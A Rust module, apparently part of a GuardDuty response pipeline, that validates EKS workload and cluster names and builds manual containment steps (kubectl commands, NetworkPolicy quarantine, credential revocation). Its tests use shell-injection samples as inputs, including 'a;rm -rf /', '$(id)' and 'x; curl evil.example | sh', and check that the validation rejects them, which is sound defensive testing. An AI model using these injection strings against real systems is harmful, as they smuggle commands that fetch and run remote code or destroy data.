//! The Kubernetes workload of an EKS finding (`resource.eksClusterDetails`,
//! `resource.kubernetesDetails.kubernetesWorkloadDetails`), for the steps the notification
//! gives analysts. The pipeline makes no Kubernetes API call: it names the commands.
//!
//! Workload names are chosen by whoever deployed the workload, possibly the attacker, and the
//! steps are meant to be pasted into a shell: a name is kept only when it is a valid Kubernetes
//! name (DNS-1123: lowercase letters, digits, `-` and `.`, at most 253 characters), which
//! cannot carry shell syntax; an EKS cluster name only when it is a valid EKS name.

use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::text;

/// The workload GuardDuty names, each field present only when it is a valid name.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct KubernetesWorkload {
    /// The EKS cluster.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cluster: Option<String>,
    /// The namespace.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub namespace: Option<String>,
    /// The kind, as GuardDuty writes it (`pods`, `deployments`, ...).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub kind: Option<String>,
    /// The workload's name.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
}

/// A DNS-1123 subdomain: what Kubernetes accepts as a namespace or object name.
pub fn is_kubernetes_name(s: &str) -> bool {
    let b = s.as_bytes();
    !b.is_empty()
        && b.len() <= 253
        && b.iter()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || *c == b'-' || *c == b'.')
        && b[0].is_ascii_alphanumeric()
        && b[b.len() - 1].is_ascii_alphanumeric()
}

/// An EKS cluster name: letters, digits, `-` and `_`, starting with a letter or digit, at most
/// 100 characters.
pub fn is_cluster_name(s: &str) -> bool {
    let b = s.as_bytes();
    !b.is_empty()
        && b.len() <= 100
        && b[0].is_ascii_alphanumeric()
        && b.iter()
            .all(|c| c.is_ascii_alphanumeric() || *c == b'-' || *c == b'_')
}

impl KubernetesWorkload {
    /// Reads the workload of a finding's `resource`; `None` when it names none.
    pub fn parse(resource: &Value) -> Option<KubernetesWorkload> {
        let w = resource.pointer("/kubernetesDetails/kubernetesWorkloadDetails");
        let field = |k: &str| text(w.and_then(|w| w.get(k))).filter(|s| is_kubernetes_name(s));
        let workload = KubernetesWorkload {
            cluster: text(resource.pointer("/eksClusterDetails/name"))
                .filter(|s| is_cluster_name(s)),
            namespace: field("namespace"),
            kind: field("type"),
            name: field("name"),
        };
        (workload.name.is_some() || workload.cluster.is_some()).then_some(workload)
    }

    /// The steps for analysts: contain the workload by hand, with the commands to run.
    pub fn containment_steps(&self) -> String {
        let cluster = self.cluster.as_deref().unwrap_or("<cluster>");
        let ns = self.namespace.as_deref().unwrap_or("<namespace>");
        let pods = match (self.kind.as_deref(), self.name.as_deref()) {
            (Some("pods"), Some(n)) | (None, Some(n)) => format!("pod {ns}/{n}"),
            (Some(kind), Some(n)) => format!("the pods of {kind} {ns}/{n}"),
            _ => "the workload (GuardDuty names no valid workload name)".to_string(),
        };
        let pod = match (self.kind.as_deref(), self.name.as_deref()) {
            (Some("pods") | None, Some(n)) => n.to_string(),
            _ => "<pod>".to_string(),
        };
        format!(
            "the pipeline makes no Kubernetes API call (out of scope for now); contain {pods} in EKS cluster {cluster} by hand: \
             (1) cut its network with a deny-all NetworkPolicy: `kubectl -n {ns} label pod {pod} guardduty-responder/quarantine=true`, \
             then apply in {ns} a NetworkPolicy whose podSelector matches that label, with policyTypes Ingress and Egress and no rules \
             (it holds only where the cluster's network plugin enforces NetworkPolicy); \
             (2) stop new pods landing on its node: `kubectl cordon $(kubectl -n {ns} get pod {pod} -o jsonpath='{{.spec.nodeName}}')`; \
             (3) revoke its AWS credentials: find its service account (`kubectl -n {ns} get pod {pod} -o jsonpath='{{.spec.serviceAccountName}}'`), \
             the IAM role of its EKS Pod Identity association or its IRSA annotation (eks.amazonaws.com/role-arn), and revoke that role's active sessions \
             (this also cuts every other pod using the role); \
             (4) keep the pod and its node for forensics: do not delete them before the evidence is captured"
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn names_that_could_carry_shell_syntax_are_dropped() {
        for ok in ["default", "debug-shell", "a.b-c", "x1"] {
            assert!(is_kubernetes_name(ok), "{ok}");
        }
        for bad in [
            "",
            "Debug",
            "a;rm -rf /",
            "$(id)",
            "-a",
            "a-",
            "a b",
            "`x`",
            "a'b",
        ] {
            assert!(!is_kubernetes_name(bad), "{bad}");
        }
        let w = KubernetesWorkload::parse(&json!({
            "eksClusterDetails": {"name": "prod$(id)"},
            "kubernetesDetails": {"kubernetesWorkloadDetails": {
                "name": "x; curl evil.example | sh", "namespace": "default", "type": "pods"}}
        }));
        assert_eq!(w, None, "neither name is valid: nothing to name");
        let w = KubernetesWorkload::parse(&json!({
            "eksClusterDetails": {"name": "platform-eks"},
            "kubernetesDetails": {"kubernetesWorkloadDetails": {
                "name": "x; curl evil.example | sh", "namespace": "default", "type": "pods"}}
        }))
        .expect("the cluster");
        let steps = w.containment_steps();
        assert!(!steps.contains("curl"), "{steps}");
        assert!(steps.contains("label pod <pod>"), "{steps}");
    }

    #[test]
    fn a_pod_gets_its_commands() {
        let w = KubernetesWorkload::parse(&json!({
            "eksClusterDetails": {"name": "platform-eks"},
            "kubernetesDetails": {"kubernetesWorkloadDetails": {
                "name": "debug-shell", "namespace": "default", "type": "pods"}}
        }))
        .expect("workload");
        let steps = w.containment_steps();
        for part in [
            "contain pod default/debug-shell in EKS cluster platform-eks",
            "kubectl -n default label pod debug-shell guardduty-responder/quarantine=true",
            "kubectl cordon $(kubectl -n default get pod debug-shell -o jsonpath='{.spec.nodeName}')",
            "Pod Identity",
            "no Kubernetes API call",
        ] {
            assert!(steps.contains(part), "{part}: {steps}");
        }
    }
}
